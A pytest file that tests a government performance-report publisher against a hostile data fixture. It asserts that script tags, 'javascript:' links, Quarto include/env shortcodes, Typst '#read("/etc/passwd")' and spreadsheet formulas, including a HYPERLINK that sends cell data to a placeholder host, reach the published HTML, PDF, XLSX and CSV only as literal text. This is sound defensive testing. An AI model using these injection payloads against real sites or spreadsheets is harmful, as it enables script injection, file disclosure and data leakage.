"""Text from the data is shown as text, everywhere: a hostile fixture through run → publish.

``tests/fixtures/hostile/`` holds five OPD over 2023–2024 whose every text field is typed as a
careless or hostile analyst would: Markdown links to ``javascript:``, strike-through, superscript,
citations, quotes and dashes; Quarto shortcodes (``{{< env HOME >}}``, ``{{< include /etc/passwd
>}}``, the escape ``{{{< … >}}}``); matplotlib mathtext (``US$``, ``$$``, ``\\frac``); spreadsheet
formulas (``=HYPERLINK(…)``, ``+``, ``-``, ``@`` starts, also as codes); HTML (``<script>``,
``<img onerror>``, ``<b>``); Typst (``#read("/etc/passwd")``); YAML front matter (``---`` lines);
right-to-left Arabic and Hebrew and a very long name. The pemda's name and a custom predikat scale
in the params are hostile too (``Pemda $$ Uji``, ``=Rendah``).

The notebooks run once (``kinerja run``), then the site is published with each engine: pandoc
always, Quarto where ``quarto`` is on PATH (HOME pointing at a folder with a unique name, so an
expanded ``{{< env HOME >}}`` would show). Checked: in headless Chromium, no ``javascript:`` or
foreign link, no element made from the data's markup, titles and headlines literal; in every file
of the site, no home folder and no line of ``/etc/passwd``; in the PDF (pdftotext), the literal
text; in every XLSX (openpyxl), no formula cell; in the public CSV files, no cell a spreadsheet
would read as a formula. The figure functions are tested directly: every text literal, mathtext
off, PNG saved. With the Quarto engine only text safety is asserted (layout belongs elsewhere).
"""

from __future__ import annotations

import csv
import functools
import http.server
import io
import os
import shutil
import subprocess
import sys
import threading
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from matplotlib.text import Text
from publish_fixture import ROOT, make_project

from kinerja.render import figures

from kinerja import run
from kinerja.core.predikat import Scale
from kinerja.pages import Page
from kinerja.publish import publish, quarto_engine

HOSTILE = ROOT / "tests" / "fixtures" / "hostile"
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", "--no-first-run"]
PNG = b"\x89PNG\r\n\x1a\n"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def flat(text: str) -> str:
    return " ".join(str(text).split())


def names() -> dict[str, str]:
    """kode_opd → nama_opd of the fixture (its 2024 rows), as typed."""
    table = pd.read_csv(HOSTILE / "data" / "kinerja.csv", dtype=str, keep_default_na=False)
    rows = table[table["tahun"] == "2024"]
    return dict(zip(rows["kode_opd"], rows["nama_opd"]))


PEMDA = yaml.safe_load((HOSTILE / "params" / "2024.yml").read_text(encoding="utf-8"))["pemda"]["nama"]
#: Site page of each OPD (``run.safe_name`` of its code, written out here by hand).
#: File names of the codes, worked out by hand from the rule of :mod:`kinerja.support.names` (a code that is
#: not plain: its letters, digits and ``._-`` with the rest as ``_``, trimmed, then ``~`` and the first
#: 12 hex digits of the code's SHA-256).
PAGES = {"1.01": "1.01", "1.02": "1.02", "=1+2": "1_2~673222ac0c0a", "1.04": "1.04", "@1.05": "1.05~291aabf4b0c2"}
#: Texts that must reach the PDF as typed.
LITERAL = ['#read("/etc/passwd")', '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "{{< env HOME >}}",
           "{{< include /etc/passwd >}}", "{{{< meta title >}}}", "Dinas [Klik](javascript:alert(1)) ~~coret~~ ^atas^",
           "Badan Investasi (US$) dan Ekspor (US$) <script>alert(1)</script>", "Pemda $$ Uji", "وزارة الصحة",
           "משרד הבריאות", "Tinggi $$ [x](javascript:alert(5))", "Skala [uji](javascript:alert(4))"]
#: Words the data wraps in Markdown markup (``*tebal*``, ```kode```, ``[Klik](javascript:…)``): an
#: ``em``, ``strong``, ``code`` or ``a`` holding exactly one of them would have come from the data.
MARKED_UP = {"coret", "atas", "bawah", "tebal", "miring", "kode", "x^2", "x", "z", "tautan", "Klik", "kutip"}


def passwd_lines() -> list[str]:
    try:
        return [line for line in Path("/etc/passwd").read_text(encoding="utf-8").splitlines() if len(line) > 8]
    except OSError:
        return []


# --- the project, run once; the site, per engine -------------------------------------------------


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    project = make_project(tmp_path_factory.mktemp("hostile") / "proyek", HOSTILE)
    summary = run.run([2024], jobs=2, root=project, progress=False)
    assert summary.ok, summary.problems()  # the tren notebook of "Pemda $$ Uji" included
    return project


@dataclass(frozen=True)
class Site:
    engine: str
    folder: Path
    home: Path


@pytest.fixture(scope="module", params=["pandoc", "quarto"])
def site(request, project, tmp_path_factory):
    engine = request.param
    if engine == "quarto" and quarto_engine.find_quarto() is None:
        pytest.skip("Quarto is not installed (quarto not on PATH): the Quarto engine is checked where it is")
    home = tmp_path_factory.mktemp(f"rumah-rahasia-{engine}-")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))  # what {{< env HOME >}} would print
        publish(project, engine=engine, out=f"_site-{engine}")
    return Site(engine, project / f"_site-{engine}", home)


def test_no_home_folder_and_no_file_content_anywhere_in_the_site(site):
    secrets = [str(site.home).encode(), site.home.name.encode(), *(line.encode() for line in passwd_lines())]
    files = [path for path in site.folder.rglob("*") if path.is_file()]
    assert len(files) > 20
    for path in files:
        content = path.read_bytes()
        for secret in secrets:
            assert secret not in content, f"{path.relative_to(site.folder)} holds {secret!r}"


# --- in the browser --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser():
    api = pytest.importorskip("playwright.sync_api", reason="playwright (test extra) is not installed")
    if not Path(CHROMIUM).is_file():
        pytest.skip("Debian's chromium is not installed; .ci/run installs it")
    with api.sync_playwright() as p:
        launched = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield launched
        launched.close()


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def served(site):
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(site.folder)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/", site
    httpd.shutdown()
    httpd.server_close()


#: Elements and attributes the data's markup would make (none of them is the site's own).
FROM_DATA = ", ".join([
    "a[href^='javascript:' i]", "[onerror]", "img[src$='/x']", "del", "s", "strike", "sup", "sub", "cite", ".citation",
    "[data-cites]", "mark", "ins", "u", "b", "i:not([class*='bi'])", "iframe", "object", "embed", "math", ".math", "hr",
])

INSPECT = """() => {
  const main = document.querySelector('main') || document.body;
  return {
    title: document.title,
    h1: Array.from(document.querySelectorAll('h1')).map(h => h.innerText),
    foreign: Array.from(document.querySelectorAll('a[href], img[src]'))
      .map(e => e.href || e.src).filter(u => u && !u.startsWith(location.origin) && !u.startsWith('data:')),
    fromData: Array.from(document.querySelectorAll(SELECTOR)).map(e => e.outerHTML.slice(0, 120)),
    marked: Array.from(document.querySelectorAll('em, strong, code, a')).map(e => e.innerText.trim()),
    scripts: Array.from(document.querySelectorAll('script')).filter(s => s.textContent.includes('alert(')).length,
    text: main.innerText,
  };
}"""


def inspect(browser, url: str) -> tuple[dict, list[str]]:
    page = browser.new_page()
    problems: list[str] = []
    page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    page.goto(url, wait_until="load")
    found = page.evaluate(INSPECT.replace("SELECTOR", repr(FROM_DATA)))
    page.close()
    return found, problems


def test_every_page_shows_the_data_as_text(served, browser):
    base, site = served
    pages = sorted(str(p.relative_to(site.folder)) for p in site.folder.rglob("*.html"))
    assert {f"2024/opd/{stem}.html" for stem in PAGES.values()} <= set(pages)
    for name in pages:
        found, problems = inspect(browser, base + name)
        dialogs = [p for p in problems if p.startswith("dialog")]
        assert dialogs == [], f"{site.engine} {name}: {dialogs}"  # nothing from the data ran
        if site.engine == "pandoc":  # Quarto pages: only text safety is asserted here
            assert problems == [], f"{name}: {problems}"
        assert found["foreign"] == [], f"{site.engine} {name}: links to {found['foreign']}"  # no javascript: link
        assert found["fromData"] == [], f"{site.engine} {name}: elements from the data {found['fromData']}"
        assert not MARKED_UP & set(found["marked"]), f"{site.engine} {name}: {MARKED_UP & set(found['marked'])}"
        assert found["scripts"] == 0, name
        assert len(found["h1"]) == 1, name  # no heading made from a "#" or a "---" line of the data


def test_titles_and_headlines_are_literal(served, browser):
    base, site = served
    pemda = flat(PEMDA)
    expected = {"index.html": f"Ringkasan capaian kinerja {pemda} tahun 2024",
                "2024/index.html": f"Ringkasan capaian kinerja {pemda} tahun 2024",
                "tren.html": f"Tren capaian kinerja {pemda} 2023–2024"}
    for code, name in names().items():
        expected[f"2024/opd/{PAGES[code]}.html"] = f"Capaian kinerja {flat(name)} tahun 2024"
    for page, title in expected.items():
        found, _ = inspect(browser, base + page)
        assert flat(found["title"]) == f"{title} – Capaian Kinerja", f"{site.engine} {page}"
        assert flat(found["h1"][0]) == title, f"{site.engine} {page}"
        if page.startswith("2024/opd/"):  # the headline sentence names the OPD as typed
            assert f"{title}: " in flat(found["text"]), f"{site.engine} {page}"
    found, _ = inspect(browser, base + "index.html")
    text = flat(found["text"])  # the headline card (in place of the headline paragraph) names the pemda as typed
    assert f"Capaian kinerja {pemda} tahun 2024" in text and f"Capaian kinerja {pemda} tahun 2024: " not in text
    listing, _ = inspect(browser, base + "2024/opd/index.html")
    for code, name in names().items():
        assert flat(name) in flat(listing["text"]), f"{site.engine} listing: {code}"


def test_search_results_show_names_as_text(served, browser):
    base, site = served
    page = browser.new_page()
    problems: list[str] = []
    page.on("dialog", lambda d: (problems.append(d.message), d.dismiss()))
    page.goto(base + "index.html", wait_until="load")
    if site.engine == "pandoc":
        page.fill("#cari-masukan", "Investasi")
        results = page.locator("#cari-hasil")
    else:  # Quarto's own search overlay
        page.locator("#quarto-search .aa-DetachedSearchButton, #quarto-search button").first.click()
        page.keyboard.type("Investasi")
        results = page.locator(".aa-Panel")
    results.get_by_text("<script>alert(1)</script>", exact=False).first.wait_for(timeout=10_000)
    page.wait_for_timeout(300)
    assert page.evaluate("document.querySelectorAll('img[src$=\"/x\"], img[src=\"x\"], [onerror]').length") == 0
    assert problems == [], f"{site.engine}: {problems}"
    page.close()


# --- PDF, XLSX, CSV --------------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("pdftotext") is None,
                    reason="poppler-utils (pdftotext) is not installed; .ci/run installs it")
def test_pdf_shows_the_literal_text_and_no_file_content(site):
    text = subprocess.run(["pdftotext", "-layout", str(site.folder / "2024" / "laporan.pdf"), "-"],
                          capture_output=True, text=True, check=True).stdout
    shown = flat(text)
    for literal in LITERAL:
        assert literal in shown, f"{site.engine}: {literal}"
    for line in passwd_lines():
        assert line not in text


def test_no_xlsx_of_the_site_has_a_formula_cell(site):
    books = sorted(site.folder.rglob("*.xlsx"))
    assert len(books) == 8  # ringkasan, tren, 5 OPD, reviu
    texts = []
    for path in books:
        for sheet in openpyxl.load_workbook(path).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {sheet.title}!{cell.coordinate}: {cell.value!r}"
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
    assert '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")' in texts and "=Rendah" in texts and "=1+2" in texts


def test_public_csv_cells_are_never_formulas_and_numbers_stay_numbers(site, project):
    files = sorted((site.folder / "unduh").rglob("*.csv"))
    assert files
    cells = []
    for path in files:
        with path.open(encoding="utf-8", newline="") as stream:
            for row in csv.reader(stream):
                cells += row
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a plain number may start like a formula (raises otherwise)
    assert "'=HYPERLINK(\"http://contoh.invalid/?d=\"&A1,\"Klik\")" in cells and "'=Rendah" in cells
    public = pd.read_csv(site.folder / "unduh" / "2024" / "ringkasan" / "opd.csv")
    assert public["selisih_poin"].dtype == float and (public["selisih_poin"] < 0).sum() == 2  # 1.02 and =1+2 fell
    assert sorted(public["selisih_poin"].round(6).tolist())[:2] == [-25.0, -10.0]  # 75 and 90 against 100
    raw = pd.read_csv(project / "_build" / "2024" / "ringkasan" / "opd.csv", dtype=str)
    assert "=Rendah" in raw["predikat"].tolist()  # the run's own extracts stay raw
    dictionary = flat((site.folder / "unduh.html").read_text(encoding="utf-8"))
    assert "diberi awalan" in dictionary and "(apostrof)" in dictionary  # the data dictionary says so


# --- the command line outputs -----------------------------------------------------------------------


def kinerja(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "kinerja", *args], cwd=cwd, capture_output=True, text=True,
                          env={**os.environ, "PATH": os.path.dirname(sys.executable)})


def test_score_outputs_stay_raw_and_validate_report_keeps_text(project, tmp_path):
    done = kinerja("score", "data/kinerja.csv", "--params", "params/2024.yml", "--out", str(tmp_path / "hasil"),
                   cwd=project)
    assert done.returncode == 0, done.stderr
    with (tmp_path / "hasil" / "opd.csv").open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")' in cells  # machine output: as typed
    bad = tmp_path / "salah.csv"
    bad.write_text((project / "data" / "kinerja.csv").read_text(encoding="utf-8").replace(",positif,", ",=1+1,", 1),
                   encoding="utf-8")
    done = kinerja("validate", str(bad), "--report", str(tmp_path / "temuan.xlsx"), cwd=project)
    assert done.returncode == 1, done.stdout
    sheet = openpyxl.load_workbook(tmp_path / "temuan.xlsx")["temuan"]
    values = [(cell.value, cell.data_type) for row in sheet.iter_rows(min_row=2) for cell in row
              if cell.value == "=1+1"]
    assert values == [("=1+1", "s")]


# --- figures -------------------------------------------------------------------------------------------

SCALE = Scale.from_records("uji", "Skala $uji$", [{"predikat": "Tinggi $$", "batas_bawah": 100},
                                                   {"predikat": "_Rendah $x$"}])
OPD = pd.DataFrame({
    "tahun": [2024, 2024, 2024],
    "kode_opd": ["1", "2", "3"],
    "nama_opd": ["Badan Investasi (US$) dan Ekspor (US$)", "Dinas $x^2$ \\alpha_1", '=HYPERLINK("a")'],
    "capaian": [110.0, 90.0, 80.0],
    "predikat": ["Tinggi $$", "_Rendah $x$", "_Rendah $x$"],
})


def page(nama: str, subjek: str = "", **tables: pd.DataFrame) -> Page:
    """A page of 2024 holding just the tables a figure draws."""
    return Page(nama, nama, 2024, tables, subjek=subjek, skala=SCALE)


def texts(chart: figures.Chart) -> list[str]:
    """Every text of the figure (drawn again outside the house style: still no mathtext)."""
    chart.figure.savefig(io.BytesIO(), format="png")
    found = chart.figure.findobj(Text)
    assert all(not text.get_parse_math() for text in found), [t.get_text() for t in found if t.get_parse_math()]
    assert chart.png.startswith(PNG)
    return [text.get_text() for text in found]


def test_ranking_distribution_and_trend_show_names_and_predikat_literally():
    shown = texts(figures.peringkat(page("ringkasan", opd=OPD, pemda=pd.DataFrame({"capaian": [93.3]}))))
    for label in ("Badan Investasi (US$) dan Ekspor (US$)", "Dinas $x^2$ \\alpha_1", '=HYPERLINK("a")', "Tinggi $$",
                  "\u200b_Rendah $x$"):  # a legend label starting with "_" would be dropped by matplotlib
        assert label in shown, label
    assert "\u200b_Rendah $x$" in texts(figures.sebaran(page("ringkasan", opd=OPD)))
    trend = texts(figures.opd_tren(page("tren", opd=pd.concat([OPD, OPD.assign(tahun=2023)]))))
    assert "Dinas $x^2$ \\alpha_1" in trend and "\u200b_Rendah $x$" in trend


def test_opd_figures_show_indicators_units_and_names_literally():
    indikator = pd.DataFrame({"indikator": ["Rasio $a_b$ ^c^"], "satuan": ["US$"], "target": [10.0],
                              "realisasi": [11.0], "predikat": ["Tinggi $$"]})
    shown = texts(figures.target_vs_realisasi(page("opd", "Dinas $US$", indikator=indikator)))
    assert "Rasio $a_b$ ^c^" in shown and "US$" in shown
    assert "Target dan realisasi indikator Dinas $US$ tahun 2024" in shown
    riwayat = pd.DataFrame({"tahun": [2023, 2024], "kode_indikator": ["K1", "K1"],
                            "indikator": ["_Indeks \\beta", "_Indeks \\beta"], "capaian": [90.0, 95.0]})
    shown = texts(figures.riwayat(page("opd", "Dinas \\(x\\)", riwayat=riwayat)))
    assert "\u200b_Indeks \\beta" in shown and "Capaian setiap indikator Dinas \\(x\\) per tahun" in shown
    anggaran = pd.DataFrame({"tahun": [2024], "capaian": [95.0], "serapan": [90.0]})
    shown = texts(figures.capaian_vs_serapan(page("opd", "Dinas ^x^ $y$", anggaran=anggaran)))
    assert "Capaian kinerja dan serapan anggaran Dinas ^x^ $y$" in shown


def test_pemda_named_with_dollars_draws_its_trend():
    pemda = pd.DataFrame({"tahun": [2023, 2024], "capaian": [100.0, 95.0]})
    chart = figures.pemda_tren(page("tren", "Pemda $$ Uji\n---\ntitle: bocor", pemda=pemda))
    assert chart.judul == "Capaian kinerja Pemda $$ Uji --- title: bocor per tahun"
    assert chart.judul in texts(chart)


def test_codes_become_file_names_every_engine_lists():
    """Codes become file names of letters, digits, ``.``, ``-``, ``_`` (and ``~`` before a hash for
    codes that are not plain), never starting with ``_`` or ``.`` (Quarto leaves such files out of a
    listing: the OPDs coded ``=1+2`` and ``@1.05`` were missing from its Daftar OPD)."""
    assert [run.safe_name(code) for code in ("1.02.01", "=1+2", "@1.05", ".x", "{{< env HOME >}}", "===")] == [
        "1.02.01", "1_2~673222ac0c0a", "1.05~291aabf4b0c2", "x~bb42e4c60255", "env_HOME~4ec3b2c64a26",
        "opd~2cf2b04b1bae"]
